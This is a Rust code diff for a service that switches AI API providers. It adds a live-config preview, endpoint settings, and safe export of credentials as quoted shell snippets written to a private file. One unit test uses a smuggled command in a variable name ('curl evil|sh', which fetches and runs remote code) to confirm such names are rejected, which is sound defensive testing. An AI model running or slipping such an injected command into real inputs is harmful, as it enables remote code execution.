@@ -20,13 +20,13 @@ use crate::settings::CustomEndpoint;
 use crate::store::AppState;
 
 // Re-export sub-module functions for external access
-pub use live::{import_default_config, read_live_settings, sync_current_to_live};
+pub use live::{import_default_config, read_live_settings, sync_current_to_live, LiveFileChange};
 
 // Internal re-exports (pub(crate))
 pub(crate) use live::write_live_snapshot;
 
 // Internal re-exports
-use live::write_gemini_live;
+use live::{preview_live_snapshot, write_gemini_live};
 use usage::validate_usage_script;
 
 /// Provider business logic service
@@ -72,6 +72,87 @@ mod tests {
         assert_eq!(base_url, "https://claude.example");
     }
 
+    #[test]
+    fn shell_env_snippet_quotes_values() {
+        let provider = Provider::with_id(
+            "claude".into(),
+            "Claude".into(),
+            json!({
+                "env": {
+                    "ANTHROPIC_AUTH_TOKEN": "tok'en",
+                    "ANTHROPIC_BASE_URL": "https://claude.example",
+                    "DISABLE_TELEMETRY": 1
+                }
+            }),
+            None,
+        );
+        assert_eq!(
+            ProviderService::shell_env_snippet(&provider, &AppType::Claude).unwrap(),
+            "export ANTHROPIC_AUTH_TOKEN='tok'\\''en' ANTHROPIC_BASE_URL='https://claude.example'\n"
+        );
+
+        let codex = Provider::with_id(
+            "codex".into(),
+            "Codex".into(),
+            json!({
+                "auth": { "OPENAI_API_KEY": "sk-codex" },
+                "config": "base_url = \"https://codex.example/v1\""
+            }),
+            None,
+        );
+        assert_eq!(
+            ProviderService::shell_env_snippet(&codex, &AppType::Codex).unwrap(),
+            "export OPENAI_API_KEY='sk-codex' OPENAI_BASE_URL='https://codex.example/v1'\n"
+        );
+    }
+
+    #[test]
+    fn shell_env_snippet_skips_invalid_variable_names() {
+        let provider = Provider::with_id(
+            "claude".into(),
+            "Claude".into(),
+            json!({
+                "env": {
+                    "X;curl evil|sh": "1",
+                    "1ABC": "2",
+                    "": "3",
+                    "_OK_1": "4"
+                }
+            }),
+            None,
+        );
+        assert_eq!(
+            ProviderService::shell_env_snippet(&provider, &AppType::Claude).unwrap(),
+            "export _OK_1='4'\n"
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn shell_env_snippet_file_is_private() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("provider.env");
+        std::fs::write(&path, "old").unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
+
+        let provider = Provider::with_id(
+            "claude".into(),
+            "Claude".into(),
+            json!({ "env": { "ANTHROPIC_AUTH_TOKEN": "secret" } }),
+            None,
+        );
+        ProviderService::write_shell_env_snippet(&provider, &AppType::Claude, &path).unwrap();
+
+        let mode = std::fs::metadata(&path).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+        assert_eq!(
+            std::fs::read_to_string(&path).unwrap(),
+            "export ANTHROPIC_AUTH_TOKEN='secret'\n"
+        );
+    }
+
     #[test]
     fn extract_codex_common_config_preserves_mcp_servers_base_url() {
         let config_toml = r#"model_provider = "azure"
@@ -249,23 +330,7 @@ impl ProviderService {
             .get(id)
             .ok_or_else(|| AppError::Message(format!("供应商 {id} 不存在")))?;
 
-        // Check if proxy takeover mode is active AND proxy server is actually running
-        // Both conditions must be true to use hot-switch mode
-        // Use blocking wait since this is a sync function
-        let is_app_taken_over =
-            futures::executor::block_on(state.db.get_live_backup(app_type.as_str()))
-                .ok()
-                .flatten()
-                .is_some();
-        let is_proxy_running = futures::executor::block_on(state.proxy_service.is_running());
-        let live_taken_over = state
-            .proxy_service
-            .detect_takeover_in_live_config_for_app(&app_type);
-
-        // Hot-switch only when BOTH: this app is taken over AND proxy server is actually running
-        let should_hot_switch = (is_app_taken_over || live_taken_over) && is_proxy_running;
-
-        if should_hot_switch {
+        if Self::should_hot_switch(state, &app_type) {
             // Proxy takeover mode: hot-switch only, don't write Live config
             log::info!(
                 "代理接管模式：热切换 {} 的目标供应商为 {}",
@@ -309,6 +374,44 @@ impl ProviderService {
         Self::switch_normal(state, app_type, id, &providers)
     }
 
+    /// Preview the live config changes a switch would make, without touching files or the DB
+    ///
+    /// Returns an empty list in proxy takeover mode, where switching never writes live config
+    pub fn preview_switch(
+        state: &AppState,
+        app_type: AppType,
+        id: &str,
+    ) -> Result<Vec<LiveFileChange>, AppError> {
+        let providers = state.db.get_all_providers(app_type.as_str())?;
+        let provider = providers
+            .get(id)
+            .ok_or_else(|| AppError::Message(format!("供应商 {id} 不存在")))?;
+
+        if Self::should_hot_switch(state, &app_type) {
+            return Ok(Vec::new());
+        }
+        preview_live_snapshot(&app_type, provider)
+    }
+
+    /// Check if proxy takeover mode is active AND proxy server is actually running
+    ///
+    /// Both conditions must be true to use hot-switch mode
+    fn should_hot_switch(state: &AppState, app_type: &AppType) -> bool {
+        // Use blocking wait since this is a sync function
+        let is_app_taken_over =
+            futures::executor::block_on(state.db.get_live_backup(app_type.as_str()))
+                .ok()
+                .flatten()
+                .is_some();
+        let is_proxy_running = futures::executor::block_on(state.proxy_service.is_running());
+        let live_taken_over = state
+            .proxy_service
+            .detect_takeover_in_live_config_for_app(app_type);
+
+        // Hot-switch only when BOTH: this app is taken over AND proxy server is actually running
+        (is_app_taken_over || live_taken_over) && is_proxy_running
+    }
+
     /// Normal switch flow (non-proxy mode)
     fn switch_normal(
         state: &AppState,
@@ -566,6 +669,49 @@ impl ProviderService {
         endpoints::remove_custom_endpoint(state, app_type, provider_id, url)
     }
 
+    /// Set primary endpoint (re-export)
+    pub fn set_primary_endpoint(
+        state: &AppState,
+        app_type: AppType,
+        provider_id: &str,
+        url: String,
+    ) -> Result<(), AppError> {
+        endpoints::set_primary_endpoint(state, app_type, provider_id, url)
+    }
+
+    /// Pin or unpin primary endpoint (re-export)
+    pub fn set_endpoint_pinned(
+        state: &AppState,
+        app_type: AppType,
+        provider_id: &str,
+        url: String,
+        pinned: bool,
+    ) -> Result<(), AppError> {
+        endpoints::set_endpoint_pinned(state, app_type, provider_id, url, pinned)
+    }
+
+    /// Set endpoint weight (re-export)
+    pub fn set_endpoint_weight(
+        state: &AppState,
+        app_type: AppType,
+        provider_id: &str,
+        url: String,
+        weight: Option<u32>,
+    ) -> Result<(), AppError> {
+        endpoints::set_endpoint_weight(state, app_type, provider_id, url, weight)
+    }
+
+    /// Set endpoint region tag (re-export)
+    pub fn set_endpoint_region(
+        state: &AppState,
+        app_type: AppType,
+        provider_id: &str,
+        url: String,
+        region: Option<String>,
+    ) -> Result<(), AppError> {
+        endpoints::set_endpoint_region(state, app_type, provider_id, url, region)
+    }
+
     /// Update endpoint last used timestamp (re-export)
     pub fn update_endpoint_last_used(
         state: &AppState,
@@ -903,6 +1049,93 @@ impl ProviderService {
             }
         }
     }
+
+    /// 供应商凭据对应的环境变量，供绕过 live 配置的脚本使用
+    ///
+    /// Claude/Gemini 取 `env` 中的全部字符串项（跳过不合法的变量名），Codex 取 `OPENAI_API_KEY` 与 `OPENAI_BASE_URL`
+    pub fn env_vars(provider: &Provider, app_type: &AppType) -> Vec<(String, String)> {
+        let vars: Vec<(String, String)> = match app_type {
+            AppType::Claude | AppType::Gemini => provider
+                .settings_config
+                .get("env")
+                .and_then(|v| v.as_object())
+                .into_iter()
+                .flatten()
+                .filter(|(k, _)| is_env_var_name(k))
+                .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
+                .collect(),
+            AppType::Codex => {
+                let (api_key, base_url) = Self::extract_credentials_lenient(provider, app_type);
+                vec![
+                    ("OPENAI_API_KEY".to_string(), api_key),
+                    ("OPENAI_BASE_URL".to_string(), base_url),
+                ]
+            }
+        };
+        vars.into_iter().filter(|(_, v)| !v.is_empty()).collect()
+    }
+
+    /// 生成 `export KEY='value' ...` 形式的 shell 片段
+    pub fn shell_env_snippet(provider: &Provider, app_type: &AppType) -> Result<String, AppError> {
+        let vars = Self::env_vars(provider, app_type);
+        if vars.is_empty() {
+            return Err(AppError::Message(format!(
+                "供应商 {} 没有可导出的环境变量",
+                provider.name
+            )));
+        }
+        let assignments: Vec<String> = vars
+            .iter()
+            .map(|(key, value)| format!("{key}={}", shell_quote(value)))
+            .collect();
+        Ok(format!("export {}\n", assignments.join(" ")))
+    }
+
+    /// 将 shell 片段写入文件，文件含密钥，权限设为 600
+    pub fn write_shell_env_snippet(
+        provider: &Provider,
+        app_type: &AppType,
+        path: &std::path::Path,
+    ) -> Result<(), AppError> {
+        use std::io::Write;
+
+        let snippet = Self::shell_env_snippet(provider, app_type)?;
+        if let Some(parent) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
+            std::fs::create_dir_all(parent).map_err(|e| AppError::io(parent, e))?;
+        }
+
+        let mut options = std::fs::OpenOptions::new();
+        options.write(true).create(true).truncate(true);
+        // 创建时即为 600，避免写入密钥前存在可被他人读取的窗口
+        #[cfg(unix)]
+        std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
+        let mut file = options.open(path).map_err(|e| AppError::io(path, e))?;
+
+        // 已存在的文件不受 mode 影响，写入前先收紧权限
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            file.set_permissions(std::fs::Permissions::from_mode(0o600))
+                .map_err(|e| AppError::io(path, e))?;
+        }
+        file.write_all(snippet.as_bytes())
+            .map_err(|e| AppError::io(path, e))?;
+        Ok(())
+    }
+}
+
+/// 合法的 shell 变量名：`[A-Za-z_][A-Za-z0-9_]*`
+fn is_env_var_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// 用单引号包裹，内部的单引号写作 `'\''`
+fn shell_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
 }
 
 /// Normalize Claude model keys in a JSON value